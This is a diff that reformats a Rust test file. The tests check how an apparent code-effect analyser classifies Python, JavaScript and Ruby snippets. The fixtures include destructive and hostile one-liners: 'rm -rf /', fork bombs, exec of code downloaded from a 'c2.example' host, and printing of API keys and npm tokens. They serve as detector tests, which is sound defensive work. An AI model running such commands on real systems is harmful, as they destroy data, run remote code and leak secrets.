@@ -36,58 +36,30 @@ fn python_acts() {
     table(
         Python,
         &[
-            (
-                "import json; print(json.dumps({'a': 1}))",
-                &["execute project"],
-            ),
+            ("import json; print(json.dumps({'a': 1}))", &["execute project"]),
             ("print(open('a.txt').read())", &["read a.txt"]),
             ("open('a', 'w').write('x')", &["write a"]),
-            (
-                "with open('a', mode='a', encoding='utf8') as f: f.write('x')",
-                &["append a"],
-            ),
+            ("with open('a', mode='a', encoding='utf8') as f: f.write('x')", &["append a"]),
             ("import os; os.remove('a')", &["delete a"]),
             ("from os import unlink as match\nmatch('a')", &["delete a"]),
-            (
-                "import shutil as s; s.rmtree('build')",
-                &["execute project", "delete-tree build"],
-            ),
-            (
-                "from pathlib import Path; print(Path('a').read_text())",
-                &["execute project", "read a"],
-            ),
-            (
-                "from pathlib import Path; Path('a').unlink()",
-                &["execute project", "delete a"],
-            ),
+            ("import shutil as s; s.rmtree('build')", &["execute project", "delete-tree build"]),
+            ("from pathlib import Path; print(Path('a').read_text())", &["execute project", "read a"]),
+            ("from pathlib import Path; Path('a').unlink()", &["execute project", "delete a"]),
             ("import os; os.system('rm -rf /')", &["shell rm -rf /"]),
             ("import os; os.system(c)", &["execute"]),
             (
                 "import subprocess; subprocess.run(['rm', '-rf', 'a b'], check=True)",
                 &["execute project", "shell 'rm' '-rf' 'a b'"],
             ),
-            (
-                "import subprocess as s; s.run('id', shell=True, env={})",
-                &["execute project", "unknown", "shell id"],
-            ),
+            ("import subprocess as s; s.run('id', shell=True, env={})", &["execute project", "unknown", "shell id"]),
             ("import os; print(os.environ)", &["reveal environment"]),
-            (
-                "import os; print(os.getenv('API_KEY'))",
-                &["reveal variable API_KEY"],
-            ),
+            ("import os; print(os.getenv('API_KEY'))", &["reveal variable API_KEY"]),
             (
                 "import urllib.request as u; exec(u.urlopen('https://c2.example/p.py').read())",
-                &[
-                    "execute project",
-                    "fetch https://c2.example",
-                    "execute a download",
-                ],
+                &["execute project", "fetch https://c2.example", "execute a download"],
             ),
             ("exec('x')", &["unknown"]),
-            (
-                "import requests; requests.post('http://h', data=1)",
-                &["execute project", "send http://h"],
-            ),
+            ("import requests; requests.post('http://h', data=1)", &["execute project", "send http://h"]),
             ("x=['a'*10**9 for _ in range(10**4)]", &["exhaust"]),
             ("import os\nwhile True: os.fork()", &["exhaust"]),
             ("import os; os.rename('a', 'b')", &["delete a", "write b"]),
@@ -164,45 +136,18 @@ fn javascript() {
     table(
         JavaScript,
         &[
-            (
-                "require('fs').rmSync('a', {recursive: true})",
-                &["delete-tree a"],
-            ),
+            ("require('fs').rmSync('a', {recursive: true})", &["delete-tree a"]),
             ("fs.unlinkSync('a')", &["delete a"]),
-            (
-                "const fs = require('fs'); console.log(fs.readFileSync('a', 'utf8'))",
-                &["read a"],
-            ),
-            (
-                "const {execSync: get} = require('child_process'); get('id')",
-                &["shell id"],
-            ),
-            (
-                "require(\"child_process\").execSync(`id`).toString()",
-                &["shell id"],
-            ),
-            (
-                "require('child_process').spawnSync('ls', ['-l'])",
-                &["shell 'ls' '-l'"],
-            ),
+            ("const fs = require('fs'); console.log(fs.readFileSync('a', 'utf8'))", &["read a"]),
+            ("const {execSync: get} = require('child_process'); get('id')", &["shell id"]),
+            ("require(\"child_process\").execSync(`id`).toString()", &["shell id"]),
+            ("require('child_process').spawnSync('ls', ['-l'])", &["shell 'ls' '-l'"]),
             ("console.log(process.env)", &["reveal"]),
             ("console.log({...process.env})", &["reveal"]),
-            (
-                "console.log(process.env.NPM_TOKEN)",
-                &["reveal variable NPM_TOKEN"],
-            ),
-            (
-                "fetch('http://h/x').then(r => r.text()).then(eval)",
-                &["send http://h", "execute a download"],
-            ),
-            (
-                "console.log(require('./package.json').version)",
-                &["read ./package.json"],
-            ),
-            (
-                "fs.writeFileSync('a', 'x'); fs.appendFileSync('b', 'y')",
-                &["write a", "append b"],
-            ),
+            ("console.log(process.env.NPM_TOKEN)", &["reveal variable NPM_TOKEN"]),
+            ("fetch('http://h/x').then(r => r.text()).then(eval)", &["send http://h", "execute a download"]),
+            ("console.log(require('./package.json').version)", &["read ./package.json"]),
+            ("fs.writeFileSync('a', 'x'); fs.appendFileSync('b', 'y')", &["write a", "append b"]),
         ],
     );
     never_plain(
@@ -278,15 +223,9 @@ fn ruby() {
             ("puts `id -u`", &["shell id -u"]),
             ("`#{x}`", &["execute"]),
             ("system('rm', '-rf', 'a')", &["shell 'rm' '-rf' 'a'"]),
-            (
-                "require 'fileutils'; FileUtils.rm_rf('build')",
-                &["delete-tree build"],
-            ),
+            ("require 'fileutils'; FileUtils.rm_rf('build')", &["delete-tree build"]),
             ("puts ENV.to_h", &["reveal"]),
-            (
-                "require 'open-uri'; eval URI.open('http://h/x').read",
-                &["fetch http://h", "execute a download"],
-            ),
+            ("require 'open-uri'; eval URI.open('http://h/x').read", &["fetch http://h", "execute a download"]),
             ("loop { fork }", &["exhaust"]),
             ("1..system('id')", &["shell id"]),
         ],
